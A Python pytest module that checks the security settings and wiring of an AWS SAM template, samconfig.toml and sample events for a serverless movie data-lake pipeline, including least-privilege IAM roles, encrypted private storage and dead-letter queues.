"""The deployment: template.yaml's security and wiring, samconfig.toml, and the sample events in events/.

The template is read as data (intrinsic functions stay {"Ref": ...}), so these checks need no AWS. The sample
events are the JSON `sam local invoke -e` takes; they are checked against the models the handlers parse.
"""

import json
import re
import tomllib
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from aws_lambda_powertools.utilities.parser.models import CloudFormationCustomResourceCreateModel

from cinelake.domain.lake import ATHENA_RESULTS_PREFIX, MOVIES_PREFIX, QUARANTINE_PREFIX, movies_key
from cinelake.events import BulkRunRecord, ChangesRun, IdBatchRecord, LakeObjectRecord
from cinelake.local.template_yaml import load_template

pytestmark = pytest.mark.unit

REPO_ROOT = Path(__file__).resolve().parents[2]
EVENTS_DIR = REPO_ROOT / "events"
LAMBDA_TO_SQS_VISIBILITY_FACTOR = 6  # AWS: a queue's VisibilityTimeout >= 6x its consumer's Timeout
VPC_ACCESS_POLICY = "arn:${AWS::Partition}:iam::aws:policy/service-role/AWSLambdaVPCAccessExecutionRole"
PRIVATE_SUBNETS = [{"Ref": "PrivateSubnetA"}, {"Ref": "PrivateSubnetB"}]
FUNCTIONS = {
    "ExtractBulkFunction": "extract_bulk",
    "ExtractChangesFunction": "extract_changes",
    "EnrichFunction": "enrich",
    "LoadFunction": "load",
    "MigrateFunction": "migrate",
}
TMDB_FUNCTIONS = {"ExtractBulkFunction", "ExtractChangesFunction", "EnrichFunction"}
DATABASE_FUNCTIONS = {"LoadFunction", "MigrateFunction"}
DATABASE_SECRET = {"Fn::GetAtt": ["Database", "MasterUserSecret.SecretArn"]}
LOGIN_SECRETS = {"load": "LoadDatabaseSecret", "api": "ApiDatabaseSecret", "ask": "AskDatabaseSecret"}
# The database secret each function logs in with: the master's for the migrations alone, the loader's own login.
FUNCTION_DATABASE_SECRET = {"LoadFunction": {"Ref": "LoadDatabaseSecret"}, "MigrateFunction": DATABASE_SECRET}


class _AnyText:
    """Equal to any non-empty string (a comment's wording is not pinned)."""

    def __eq__(self, other: object) -> bool:
        return isinstance(other, str) and bool(other)


ANY_TEXT = _AnyText()

# What each function's role may touch: queues and secrets by logical id, the lake by object prefix ("Bucket"
# alone is the bucket itself, for s3:ListBucket). Anything more is a finding; anything less breaks the function.
ACCESS = {
    "ExtractBulkFunction": {
        "BulkQueue",
        "IdsQueue",
        "TmdbSecret",
        "DataLakeBucket",
        "DataLakeBucket/raw/exports/*",
        "DataLakeBucket/state/bulk/*",
    },
    "ExtractChangesFunction": {
        "IdsQueue",
        "TmdbSecret",
        "DataLakeBucket",
        "DataLakeBucket/state/changes-watermark.json",
        "ChangesScheduleDeadLetterQueue",  # its on-failure destination
    },
    "EnrichFunction": {"IdsQueue", "TmdbSecret", f"DataLakeBucket/{MOVIES_PREFIX}*"},
    "LoadFunction": {
        "LoadQueue",
        "LoadDatabaseSecret",
        f"DataLakeBucket/{MOVIES_PREFIX}*",
        f"DataLakeBucket/{QUARANTINE_PREFIX}*",
    },
    # The only reader of the master secret; it also makes and rotates the three logins.
    "MigrateFunction": {"Database.MasterUserSecret", *LOGIN_SECRETS.values()},
}


@pytest.fixture(scope="module")
def template() -> dict[str, Any]:
    return load_template((REPO_ROOT / "template.yaml").read_text(encoding="utf-8"))


@pytest.fixture(scope="module")
def resources(template: dict[str, Any]) -> dict[str, Any]:
    return template["Resources"]


def of_type(resources: dict[str, Any], resource_type: str) -> dict[str, dict[str, Any]]:
    return {name: r.get("Properties") or {} for name, r in resources.items() if r["Type"] == resource_type}


def function(template: dict[str, Any], logical_id: str) -> dict[str, Any]:
    """A function's properties with the Globals it inherits (maps merged, the function's own values winning)."""
    merged = dict(template["Globals"]["Function"])
    own = template["Resources"][logical_id]["Properties"]
    merged.update(own)
    merged["Environment"] = {
        "Variables": {
            **template["Globals"]["Function"]["Environment"]["Variables"],
            **own.get("Environment", {}).get("Variables", {}),
        }
    }
    return merged


def sqs_sources(template: dict[str, Any]) -> list[tuple[str, dict[str, Any]]]:
    """(function id, SQS event properties) for every queue that feeds a function."""
    return [
        (logical_id, event["Properties"])
        for logical_id in FUNCTIONS
        for event in (template["Resources"][logical_id]["Properties"].get("Events") or {}).values()
        if event["Type"] == "SQS"
    ]


def target(node: Any) -> str:
    """The resource a !Ref or !GetAtt points at."""
    if "Ref" in node:
        return node["Ref"]
    return node["Fn::GetAtt"][0]


def access_of(statement_resource: Any) -> str:
    """A policy Resource written as the ACCESS table names it."""
    if statement_resource == DATABASE_SECRET:
        return "Database.MasterUserSecret"
    if isinstance(statement_resource, dict) and "Fn::Sub" in statement_resource:
        match = re.fullmatch(r"\$\{(\w+)\.Arn\}/(.+)", statement_resource["Fn::Sub"])
        assert match, f"unexpected resource {statement_resource}"
        return f"{match[1]}/{match[2]}"
    assert isinstance(statement_resource, dict), f"a literal resource {statement_resource!r} (a wildcard?)"
    return target(statement_resource)


def statements(role: dict[str, Any]) -> list[dict[str, Any]]:
    return [s for policy in role["Policies"] for s in policy["PolicyDocument"]["Statement"]]


def as_list(value: Any) -> list[Any]:
    return value if isinstance(value, list) else [value]


# ---- Queues ----------------------------------------------------------------------------------------------------


def test_every_queue_that_feeds_a_function_has_a_dead_letter_queue_and_outlasts_its_consumer(template, resources):
    queues = of_type(resources, "AWS::SQS::Queue")
    sources = sqs_sources(template)
    assert {target(event["Queue"]) for _, event in sources} == {"IdsQueue", "LoadQueue", "BulkQueue"}
    for function_id, event in sources:
        queue = queues[target(event["Queue"])]
        # GIVEN a message its consumer keeps failing on
        # THEN it is parked in a dead-letter queue after a few attempts ...
        dead_letter_queue = queues[target(queue["RedrivePolicy"]["deadLetterTargetArn"])]
        assert 1 < queue["RedrivePolicy"]["maxReceiveCount"] <= 10
        # ... which keeps it longer than its own queue would have
        assert dead_letter_queue["MessageRetentionPeriod"] > queue["MessageRetentionPeriod"]
        # AND a batch in progress never becomes visible to a second poller.
        consumer = function(template, function_id)
        minimum = LAMBDA_TO_SQS_VISIBILITY_FACTOR * consumer["Timeout"] + event.get("MaximumBatchingWindowInSeconds", 0)
        assert queue["VisibilityTimeout"] >= minimum, function_id
        # AND one failed message does not fail its whole batch.
        assert event["FunctionResponseTypes"] == ["ReportBatchItemFailures"]


def test_a_message_in_any_dead_letter_queue_raises_an_alarm(template, resources):
    queues = of_type(resources, "AWS::SQS::Queue")
    redrive_targets = {
        target(q["RedrivePolicy"]["deadLetterTargetArn"]) for q in queues.values() if "RedrivePolicy" in q
    }
    schedule = template["Resources"]["ExtractChangesFunction"]["Properties"]["Events"]["DailyChanges"]["Properties"]
    dead_letter_queues = redrive_targets | {target(schedule["DeadLetterConfig"]["Arn"])}
    # Every queue either feeds a function or is a dead-letter queue.
    assert set(queues) == dead_letter_queues | {target(event["Queue"]) for _, event in sqs_sources(template)}

    alarms = [
        a
        for a in of_type(resources, "AWS::CloudWatch::Alarm").values()
        if a["MetricName"] == "ApproximateNumberOfMessagesVisible"
    ]
    watched = set()
    for alarm in alarms:
        assert alarm["Namespace"] == "AWS/SQS"
        assert (alarm["ComparisonOperator"], alarm["Threshold"]) == ("GreaterThanThreshold", 0)
        assert alarm["AlarmActions"] == [{"Ref": "AlarmTopic"}]
        (dimension,) = alarm["Dimensions"]
        watched.add(target(dimension["Value"]))
    assert watched == dead_letter_queues
    # The topic mails someone when an address is given.
    subscription = resources["AlarmEmailSubscription"]
    assert subscription["Condition"] == "HasAlarmEmail"
    assert subscription["Properties"]["TopicArn"] == {"Ref": "AlarmTopic"}


def test_extract_bulk_runs_one_bulk_queue_message_at_a_time(template):
    ((function_id, event),) = [(f, e) for f, e in sqs_sources(template) if target(e["Queue"]) == "BulkQueue"]
    assert function_id == "ExtractBulkFunction"
    assert event["BatchSize"] == 1
    # An unfinished run queues its continuation there: the function knows the queue's name.
    assert function(template, function_id)["Environment"]["Variables"]["BULK_QUEUE_NAME"] == {
        "Fn::GetAtt": ["BulkQueue", "QueueName"]
    }


def test_the_daily_schedule_retries_then_parks_the_invocation(template):
    event = template["Resources"]["ExtractChangesFunction"]["Properties"]["Events"]["DailyChanges"]
    assert event["Type"] == "ScheduleV2"
    schedule = event["Properties"]
    assert schedule["RetryPolicy"]["MaximumRetryAttempts"] >= 1
    assert target(schedule["DeadLetterConfig"]["Arn"]) == "ChangesScheduleDeadLetterQueue"
    assert json.loads(schedule["Input"])["scheduled_time"] == "<aws.scheduler.scheduled-time>"


# ---- Data lake ---------------------------------------------------------------------------------------------------


def test_the_data_lake_is_versioned_encrypted_private_and_kept(resources):
    lake = resources["DataLakeBucket"]
    properties = lake["Properties"]
    assert properties["VersioningConfiguration"] == {"Status": "Enabled"}
    (encryption,) = properties["BucketEncryption"]["ServerSideEncryptionConfiguration"]
    assert encryption["ServerSideEncryptionByDefault"]["SSEAlgorithm"] in ("AES256", "aws:kms")
    assert properties["PublicAccessBlockConfiguration"] == {
        "BlockPublicAcls": True,
        "BlockPublicPolicy": True,
        "IgnorePublicAcls": True,
        "RestrictPublicBuckets": True,
    }
    assert lake["DeletionPolicy"] == lake["UpdateReplacePolicy"] == "Retain"


def test_the_data_lake_refuses_plain_http(resources):
    (policy,) = of_type(resources, "AWS::S3::BucketPolicy").values()
    assert policy["Bucket"] == {"Ref": "DataLakeBucket"}
    (statement,) = policy["PolicyDocument"]["Statement"]
    assert (statement["Effect"], statement["Principal"], statement["Action"]) == ("Deny", "*", "s3:*")
    assert statement["Condition"] == {"Bool": {"aws:SecureTransport": "false"}}
    # Both the bucket and every object in it.
    assert statement["Resource"] == [
        {"Fn::GetAtt": ["DataLakeBucket", "Arn"]},
        {"Fn::Sub": "${DataLakeBucket.Arn}/*"},
    ]


def test_raw_data_ages_out_and_quarantined_records_are_kept(resources):
    rules = {
        rule.get("Prefix"): rule
        for rule in resources["DataLakeBucket"]["Properties"]["LifecycleConfiguration"]["Rules"]
    }
    assert all(rule["Status"] == "Enabled" for rule in rules.values())
    assert rules["raw/exports/"]["ExpirationInDays"] == 90
    assert rules[MOVIES_PREFIX]["Transitions"] == [{"StorageClass": "STANDARD_IA", "TransitionInDays": 30}]
    for prefix in ("raw/exports/", MOVIES_PREFIX, "state/"):
        assert rules[prefix]["NoncurrentVersionExpiration"]["NoncurrentDays"] >= 1
    # No rule expires or moves anything under quarantine/, nor the whole bucket.
    assert QUARANTINE_PREFIX not in rules
    whole_bucket = rules[None]
    assert set(whole_bucket) == {"Id", "Status", "AbortIncompleteMultipartUpload"}


# ---- The lake in Glue and Athena ---------------------------------------------------------------------------

GLUE_TABLES = {"RawMoviesTable": MOVIES_PREFIX, "QuarantineTable": f"{QUARANTINE_PREFIX}{MOVIES_PREFIX}"}


def test_the_glue_database_is_named_as_athena_wants(template, resources):
    database = resources["LakeDatabase"]["Properties"]
    assert database["DatabaseInput"]["Name"] == {"Ref": "LakeDatabaseName"}
    parameter = template["Parameters"]["LakeDatabaseName"]
    assert re.fullmatch(parameter["AllowedPattern"], parameter["Default"])
    assert not re.fullmatch(parameter["AllowedPattern"], "cinelake-dev")  # no hyphen in an Athena database name


@pytest.mark.parametrize(("logical_id", "prefix"), sorted(GLUE_TABLES.items()))
def test_each_lake_table_reads_json_lines_under_its_prefix(resources, logical_id, prefix):
    table = resources[logical_id]["Properties"]
    assert table["DatabaseName"] == {"Ref": "LakeDatabase"}
    table_input = table["TableInput"]
    assert table_input["TableType"] == "EXTERNAL_TABLE"
    storage = table_input["StorageDescriptor"]
    assert storage["Location"] == {"Fn::Sub": f"s3://${{DataLakeBucket}}/{prefix}"}
    assert storage["SerdeInfo"]["SerializationLibrary"] == "org.openx.data.jsonserde.JsonSerDe"
    assert storage["InputFormat"] == "org.apache.hadoop.mapred.TextInputFormat"  # reads .gz objects too
    # Athena wants lower-case column names; the JSON keys they read are lower-case too.
    assert all(column["Name"] == column["Name"].lower() for column in storage["Columns"])


@pytest.mark.parametrize(("logical_id", "prefix"), sorted(GLUE_TABLES.items()))
def test_each_lake_table_projects_its_dt_partitions_so_no_crawler_is_needed(resources, logical_id, prefix):
    table_input = resources[logical_id]["Properties"]["TableInput"]
    assert table_input["PartitionKeys"] == [{"Name": "dt", "Type": "string", "Comment": ANY_TEXT}]
    parameters = table_input["Parameters"]
    assert parameters["projection.enabled"] == "true"
    assert parameters["projection.dt.type"] == "date"
    assert parameters["projection.dt.format"] == "yyyy-MM-dd"  # the dt=YYYY-MM-DD of domain/lake.py's keys
    assert parameters["projection.dt.range"] == {"Fn::Sub": "${LakeFirstDay},NOW"}
    assert parameters["projection.dt.interval.unit"] == "DAYS"
    # Each day's objects are found under the table's location, in the day's dt= folder.
    assert parameters["storage.location.template"] == {"Fn::Sub": f"s3://${{DataLakeBucket}}/{prefix}dt=${{!dt}}/"}
    assert movies_key(datetime(2026, 11, 25), "x").startswith(f"{MOVIES_PREFIX}dt=2026-11-25/")
    assert not of_type(resources, "AWS::Glue::Crawler")


def test_the_athena_workgroup_writes_its_results_to_the_lake_where_they_expire(template, resources):
    workgroup = resources["LakeWorkGroup"]["Properties"]
    configuration = workgroup["WorkGroupConfiguration"]
    results = configuration["ResultConfiguration"]
    assert results["OutputLocation"] == {"Fn::Sub": f"s3://${{DataLakeBucket}}/{ATHENA_RESULTS_PREFIX}"}
    assert results["EncryptionConfiguration"] == {"EncryptionOption": "SSE_S3"}
    assert results["ExpectedBucketOwner"] == {"Ref": "AWS::AccountId"}
    # A client cannot send the results elsewhere, and a runaway query is cancelled.
    assert configuration["EnforceWorkGroupConfiguration"] is True
    assert 0 < configuration["BytesScannedCutoffPerQuery"] <= 100 * 1024**3
    # The results prefix has a lifecycle rule of its own; the notification to the loader does not cover it.
    rules = resources["DataLakeBucket"]["Properties"]["LifecycleConfiguration"]["Rules"]
    (rule,) = [r for r in rules if r.get("Prefix") == ATHENA_RESULTS_PREFIX]
    assert (rule["Status"], rule["ExpirationInDays"]) == ("Enabled", {"Ref": "AthenaResultsDays"})
    assert template["Parameters"]["AthenaResultsDays"]["Default"] <= 30
    assert template["Outputs"]["AthenaResultsLocation"]["Value"] == results["OutputLocation"]


def test_the_lake_query_policy_reads_the_tables_and_writes_only_query_results(resources):
    policy = resources["LakeQueryPolicy"]["Properties"]["PolicyDocument"]
    granted = set()
    for statement in policy["Statement"]:
        assert statement["Effect"] == "Allow"
        assert not any(action.endswith("*") for action in as_list(statement["Action"]))
        for resource in as_list(statement["Resource"]):
            text = resource.get("Fn::Sub") or target(resource)
            granted |= {(action, text) for action in as_list(statement["Action"])}
    writes = {resource for action, resource in granted if action == "s3:PutObject"}
    assert writes == {f"${{DataLakeBucket.Arn}}/{ATHENA_RESULTS_PREFIX}*"}
    reads = {resource for action, resource in granted if action == "s3:GetObject"}
    assert reads == {
        f"${{DataLakeBucket.Arn}}/{MOVIES_PREFIX}*",
        f"${{DataLakeBucket.Arn}}/{QUARANTINE_PREFIX}*",
        f"${{DataLakeBucket.Arn}}/{ATHENA_RESULTS_PREFIX}*",
    }
    (listing,) = [s for s in policy["Statement"] if "s3:ListBucket" in as_list(s["Action"])]
    assert set(listing["Condition"]["StringLike"]["s3:prefix"]) == {
        f"{MOVIES_PREFIX}*",
        f"{QUARANTINE_PREFIX}*",
        f"{ATHENA_RESULTS_PREFIX}*",
    }
    athena = {resource for action, resource in granted if action.startswith("athena:")}
    assert athena == {"arn:${AWS::Partition}:athena:${AWS::Region}:${AWS::AccountId}:workgroup/${LakeWorkGroup}"}


# ---- Database and network ------------------------------------------------------------------------------------


def test_the_database_is_private_encrypted_and_its_password_kept_by_rds(template, resources):
    database = resources["Database"]["Properties"]
    assert database["Engine"] == "postgres"
    assert template["Parameters"][database["EngineVersion"]["Ref"]]["Default"].startswith("15.")
    assert database["PubliclyAccessible"] is False
    assert database["StorageEncrypted"] is True
    assert database["ManageMasterUserPassword"] is True
    assert "MasterUserPassword" not in database
    # In the private subnets, behind its own security group.
    subnet_group = resources[database["DBSubnetGroupName"]["Ref"]]["Properties"]
    assert subnet_group["SubnetIds"] == {"Fn::If": ["CreateVpc", PRIVATE_SUBNETS, {"Ref": "ExistingPrivateSubnetIds"}]}
    assert database["VPCSecurityGroups"] == [{"Fn::GetAtt": ["DatabaseSecurityGroup", "GroupId"]}]
    # It refuses unencrypted connections.
    parameters = resources[database["DBParameterGroupName"]["Ref"]]["Properties"]
    assert parameters["Family"] == "postgres15"
    assert parameters["Parameters"]["rds.force_ssl"] == "1"


def test_only_the_functions_and_the_api_instance_reach_the_database(resources):
    database_group = resources["DatabaseSecurityGroup"]["Properties"]
    ingress = database_group["SecurityGroupIngress"]
    assert {(rule["IpProtocol"], rule["FromPort"], rule["ToPort"]) for rule in ingress} == {("tcp", 5432, 5432)}
    assert {target(rule["SourceSecurityGroupId"]) for rule in ingress} == {"FunctionSecurityGroup", "ApiSecurityGroup"}
    assert not any("CidrIp" in rule for rule in ingress)
    # AND no standalone rule opens it to anything else
    assert not [
        r
        for r in of_type(resources, "AWS::EC2::SecurityGroupIngress").values()
        if target(r["GroupId"]) == "DatabaseSecurityGroup"
    ]


def test_the_private_subnets_go_out_through_the_nat_gateway_and_to_s3_through_the_endpoint(resources):
    associations = of_type(resources, "AWS::EC2::SubnetRouteTableAssociation").values()
    private_tables = {target(a["RouteTableId"]) for a in associations if a["SubnetId"] in PRIVATE_SUBNETS}
    assert private_tables == {"PrivateRouteTable"}
    routes = [
        r for r in of_type(resources, "AWS::EC2::Route").values() if r["RouteTableId"] == {"Ref": "PrivateRouteTable"}
    ]
    assert routes == [
        {
            "RouteTableId": {"Ref": "PrivateRouteTable"},
            "DestinationCidrBlock": "0.0.0.0/0",
            "NatGatewayId": {"Ref": "NatGateway"},
        }
    ]
    (endpoint,) = of_type(resources, "AWS::EC2::VPCEndpoint").values()
    assert endpoint["VpcEndpointType"] == "Gateway"
    assert endpoint["ServiceName"] == {"Fn::Sub": "com.amazonaws.${AWS::Region}.s3"}
    assert endpoint["RouteTableIds"] == [{"Ref": "PrivateRouteTable"}]
    # The network is the stack's own unless an existing VPC is named.
    assert resources["Vpc"]["Condition"] == "CreateVpc"


# ---- Functions -------------------------------------------------------------------------------------------------


def test_every_function_runs_python_3_13_in_the_private_subnets_with_the_one_shared_layer(template, resources):
    serverless_functions = of_type(resources, "AWS::Serverless::Function")
    assert set(serverless_functions) == set(FUNCTIONS)
    globals_ = template["Globals"]["Function"]
    assert globals_["Runtime"] == "python3.13"
    assert globals_["Layers"] == [{"Ref": "CineLakeLayer"}]
    assert globals_["VpcConfig"]["SubnetIds"] == {
        "Fn::If": ["CreateVpc", PRIVATE_SUBNETS, {"Ref": "ExistingPrivateSubnetIds"}]
    }
    for logical_id, folder in FUNCTIONS.items():
        properties = serverless_functions[logical_id]
        # Nothing overrides what the Globals give every function.
        assert not {"Runtime", "Layers", "VpcConfig"} & set(properties), logical_id
        assert properties["CodeUri"] == f"functions/{folder}/"
        assert properties["Handler"] == "app.lambda_handler"
        assert (REPO_ROOT / "functions" / folder / "app.py").is_file()


def test_the_layer_is_built_from_pyproject_for_lambdas_platform(resources):
    layer = resources["CineLakeLayer"]
    assert layer["Type"] == "AWS::Serverless::LayerVersion"
    assert layer["Properties"]["ContentUri"] == "./"  # where SAM looks for the Makefile
    assert layer["Properties"]["CompatibleRuntimes"] == ["python3.13"]
    assert layer["Metadata"] == {"BuildMethod": "makefile", "BuildArchitecture": "x86_64"}
    # The Makefile target installs the project itself, so its dependencies are pyproject.toml's.
    makefile = (REPO_ROOT / "Makefile").read_text(encoding="utf-8")
    recipe = makefile.split("\nbuild-CineLakeLayer:\n", 1)[1].split("\n\n", 1)[0]
    for option in (
        "--platform manylinux2014_x86_64",
        "--implementation cp",
        "--python-version 3.13",
        "--only-binary=:all:",
        '--target "$(ARTIFACTS_DIR)/python" .',
    ):
        assert option in recipe


def test_powertools_knows_the_service_and_the_metrics_namespace(template):
    variables = template["Globals"]["Function"]["Environment"]["Variables"]
    assert variables["POWERTOOLS_SERVICE_NAME"] == "cinelake"
    assert variables["POWERTOOLS_METRICS_NAMESPACE"] == "CineLake"
    assert variables["LOG_LEVEL"] == {"Ref": "LogLevel"}


@pytest.mark.parametrize("logical_id", sorted(FUNCTIONS))
def test_only_the_functions_that_need_a_secret_are_told_where_it_is(template, logical_id):
    variables = function(template, logical_id)["Environment"]["Variables"]
    if logical_id in TMDB_FUNCTIONS:
        assert variables["TMDB_SECRET_ARN"] == {"Ref": "TmdbSecret"}
    else:
        assert "TMDB_SECRET_ARN" not in variables
    database_variables = {
        "DATABASE_SECRET_ARN": FUNCTION_DATABASE_SECRET.get(logical_id),
        "DATABASE_HOST": {"Fn::GetAtt": ["Database", "Endpoint.Address"]},
        "DATABASE_PORT": {"Fn::GetAtt": ["Database", "Endpoint.Port"]},
        "DATABASE_NAME": {"Ref": "DatabaseName"},
    }
    if logical_id in DATABASE_FUNCTIONS:
        assert {name: variables[name] for name in database_variables} == database_variables
    else:
        assert not set(database_variables) & set(variables)


@pytest.mark.parametrize("logical_id", sorted(FUNCTIONS))
def test_the_local_stand_ins_variables_are_declared_blank_so_sam_local_invoke_can_set_them(template, logical_id):
    # `sam local invoke --env-vars` sets only declared variables; blank is unset to the code, so AWS gets defaults.
    variables = function(template, logical_id)["Environment"]["Variables"]
    stand_ins = {"AWS_ENDPOINT_URL"}
    if logical_id in TMDB_FUNCTIONS:
        stand_ins |= {"TMDB_API_KEY", "TMDB_API_URL", "TMDB_EXPORTS_URL"}
    if logical_id in DATABASE_FUNCTIONS:
        stand_ins |= {"DATABASE_URL"}
    assert {name for name, value in variables.items() if value == ""} == stand_ins


def test_the_tmdb_secret_is_created_empty_for_the_operator_to_fill(resources):
    secret = resources["TmdbSecret"]["Properties"]
    assert json.loads(secret["SecretString"]) == {"api_key": "", "read_access_token": ""}


@pytest.mark.parametrize("logical_id", sorted(FUNCTIONS))
def test_each_function_may_touch_only_its_own_resources(resources, logical_id):
    # GIVEN the function's own role (SAM adds nothing to a role it is given)
    properties = resources[logical_id]["Properties"]
    assert "Policies" not in properties
    role_id = target(properties["Role"])
    roles_in_use = [target(resources[f]["Properties"]["Role"]) for f in FUNCTIONS]
    assert roles_in_use.count(role_id) == 1
    role = resources[role_id]["Properties"]
    assert role["AssumeRolePolicyDocument"]["Statement"][0]["Principal"] == {"Service": "lambda.amazonaws.com"}
    # THEN besides its network interfaces and logs ...
    assert role["ManagedPolicyArns"] == [{"Fn::Sub": VPC_ACCESS_POLICY}]
    # ... it names exactly the queues, lake prefixes and secrets the function uses, with no wildcard action.
    granted = set()
    for statement in statements(role):
        assert statement["Effect"] == "Allow"
        assert not any(action.endswith("*") for action in as_list(statement["Action"]))
        granted |= {access_of(resource) for resource in as_list(statement["Resource"])}
    assert granted == ACCESS[logical_id]


def test_only_the_sqs_consumers_may_receive_and_only_from_their_queue(template, resources):
    consumers = {function_id: target(event["Queue"]) for function_id, event in sqs_sources(template)}
    for logical_id in FUNCTIONS:
        role = resources[target(resources[logical_id]["Properties"]["Role"])]["Properties"]
        receiving = [s for s in statements(role) if "sqs:ReceiveMessage" in as_list(s["Action"])]
        if logical_id in consumers:
            (statement,) = receiving
            assert target(statement["Resource"]) == consumers[logical_id]
        else:
            assert receiving == []


# ---- Migrations on deploy --------------------------------------------------------------------------------------


def test_a_custom_resource_runs_the_migrations_on_every_deploy_that_changes_code_or_database(resources):
    migrations = resources["DatabaseMigrations"]
    assert migrations["Type"] == "AWS::CloudFormation::CustomResource"
    properties = migrations["Properties"]
    assert properties["ServiceToken"] == {"Fn::GetAtt": ["MigrateFunction", "Arn"]}
    # A property that changes when the layer (and so the .sql files) or the database does makes it run again.
    changing = {target(value) for name, value in properties.items() if name not in ("ServiceToken", "ServiceTimeout")}
    assert changing == {"CineLakeLayer", "Database"}
    # CloudFormation stops waiting after ServiceTimeout even if no answer ever comes.
    assert resources["MigrateFunction"]["Properties"]["Timeout"] < properties["ServiceTimeout"] <= 3600
    # The functions can reach Secrets Manager and the response URL before it runs, and it logs to the stack's group.
    assert migrations["DependsOn"] == ["NetworkReady", "MigrateLogGroup"]


def test_the_migrate_function_alone_ships_crhelper_at_the_pin_its_tests_run():
    # GIVEN the function's requirements (SAM builds them into its package) and the tests' (pyproject's dev extra)
    shipped = (REPO_ROOT / "functions" / "migrate" / "requirements.txt").read_text(encoding="utf-8")
    project = tomllib.loads((REPO_ROOT / "pyproject.toml").read_text(encoding="utf-8"))["project"]
    (pin,) = [line for line in shipped.splitlines() if line and not line.startswith("#")]
    # THEN both pin the same crhelper, and no other function or the layer's core carries it
    assert pin.startswith("crhelper==")
    assert pin in project["optional-dependencies"]["dev"]
    assert not any(dependency.startswith("crhelper") for dependency in project["dependencies"])
    assert [path.parent.name for path in (REPO_ROOT / "functions").glob("*/requirements.txt")] == ["migrate"]


def test_the_outputs_name_what_the_operators_use(template):
    assert {
        "DataLakeBucketName",
        "IdsQueueUrl",
        "LoadQueueUrl",
        "BulkQueueUrl",
        "IdsDeadLetterQueueUrl",
        "LoadDeadLetterQueueUrl",
        "BulkDeadLetterQueueUrl",
        "ChangesScheduleDeadLetterQueueUrl",
        "DatabaseEndpoint",
        "DatabaseSecretArn",
        "TmdbSecretArn",
        "LakeDatabaseName",
        "LakeWorkGroupName",
        "AthenaResultsLocation",
        "LakeQueryPolicyArn",
    } <= set(template["Outputs"])


# ---- samconfig.toml --------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def samconfig() -> dict[str, Any]:
    return tomllib.loads((REPO_ROOT / "samconfig.toml").read_text(encoding="utf-8"))


def test_dev_and_prod_deploy_to_stacks_of_their_own(samconfig, template):
    dev, prod = samconfig["dev"], samconfig["prod"]
    assert dev["global"]["parameters"]["stack_name"] != prod["global"]["parameters"]["stack_name"]
    for environment in (dev, prod):
        assert environment["global"]["parameters"]["region"]
        deploy = environment["deploy"]["parameters"]
        assert "CAPABILITY_IAM" in deploy["capabilities"]
        assert deploy["resolve_s3"] is True
        overrides = dict(override.split("=", 1) for override in deploy["parameter_overrides"])
        assert set(overrides) <= set(template["Parameters"])
        assert "DatabaseInstanceClass" in overrides
    # Production shows the change set and waits for a yes.
    assert prod["deploy"]["parameters"]["confirm_changeset"] is True
    # Names that must be unique differ between the two.
    names = ("DataLakeBucketName", "IdsQueueName", "LoadQueueName", "BulkQueueName", "LakeDatabaseName")
    dev_names = dict(o.split("=", 1) for o in dev["deploy"]["parameters"]["parameter_overrides"])
    prod_names = dict(o.split("=", 1) for o in prod["deploy"]["parameters"]["parameter_overrides"])
    assert all(dev_names[name] != prod_names[name] for name in names)


def test_every_build_is_in_source_so_sam_does_not_copy_the_virtualenv(samconfig):
    for environment in ("default", "dev", "prod"):
        assert samconfig[environment]["build"]["parameters"]["build_in_source"] is True


# ---- Sample events ---------------------------------------------------------------------------------------------


def event(name: str) -> dict[str, Any]:
    return json.loads((EVENTS_DIR / name).read_text(encoding="utf-8"))


@pytest.mark.parametrize(
    ("file_name", "record_model", "queue_parameter"),
    [
        ("enrich_ids_batch.json", IdBatchRecord, "IdsQueueName"),
        ("load_object_created.json", LakeObjectRecord, "LoadQueueName"),
        ("load_s3_test_event.json", LakeObjectRecord, "LoadQueueName"),
        ("extract_bulk_run.json", BulkRunRecord, "BulkQueueName"),
    ],
)
def test_the_sqs_sample_events_are_what_the_handlers_parse(template, file_name, record_model, queue_parameter):
    records = event(file_name)["Records"]
    assert records
    for record in records:
        record_model.model_validate(record)
        # From the queue the template names by default.
        queue_name = template["Parameters"][queue_parameter]["Default"]
        assert record["eventSourceARN"].endswith(f":{queue_name}")


def test_the_ids_batch_sample_carries_ids_a_source_and_a_day():
    for record in event("enrich_ids_batch.json")["Records"]:
        batch = IdBatchRecord.model_validate(record).body
        assert batch.ids and batch.source in ("bulk", "changes") and batch.day


def test_the_object_created_sample_names_a_raw_movies_object_url_encoded_as_s3_sends_it():
    (record,) = event("load_object_created.json")["Records"]
    notification = json.loads(record["body"])["Records"][0]
    assert notification["eventName"].startswith("ObjectCreated:")
    assert "%3D" in notification["s3"]["object"]["key"]  # "=" arrives encoded
    ((key, etag),) = LakeObjectRecord.model_validate(record).objects()
    assert re.fullmatch(rf"{MOVIES_PREFIX}dt=\d{{4}}-\d{{2}}-\d{{2}}/[\w-]+\.ndjson\.gz", key)
    assert etag


def test_the_s3_test_event_sample_names_no_object():
    (record,) = event("load_s3_test_event.json")["Records"]
    assert LakeObjectRecord.model_validate(record).objects() == []


def test_the_schedule_sample_is_the_templates_input_filled_in(template):
    payload = event("extract_changes_schedule.json")
    schedule = template["Resources"]["ExtractChangesFunction"]["Properties"]["Events"]["DailyChanges"]["Properties"]
    assert set(payload) == set(json.loads(schedule["Input"]))
    # The run reads the day before the scheduled time.
    assert ChangesRun.model_validate(payload).through_day().isoformat() == "2024-05-01"


def test_the_custom_resource_sample_is_a_cloudformation_create_request(resources):
    request = CloudFormationCustomResourceCreateModel.model_validate(event("migrate_create.json"))
    assert request.logical_resource_id == "DatabaseMigrations"
    assert request.resource_type == resources["DatabaseMigrations"]["Type"]
    expected = set(resources["DatabaseMigrations"]["Properties"])
    assert isinstance(request.resource_properties, dict)
    assert set(request.resource_properties) == expected


# ---- The API on EC2 --------------------------------------------------------------------------------------------

AL2023_AMI_PARAMETER = "/aws/service/ami-amazon-linux-latest/al2023-ami-kernel-default-x86_64"


@pytest.fixture(scope="module")
def api_user_data(resources) -> str:
    """The instance's user data as written (the Fn::Sub text, placeholders unresolved)."""
    return resources["ApiInstance"]["Properties"]["UserData"]["Fn::Base64"]["Fn::Sub"]


def test_the_api_instance_runs_the_latest_amazon_linux_2023_in_a_public_subnet(template, resources):
    instance = resources["ApiInstance"]["Properties"]
    parameters = template["Parameters"]
    image = parameters[instance["ImageId"]["Ref"]]
    assert image["Type"] == "AWS::SSM::Parameter::Value<AWS::EC2::Image::Id>"
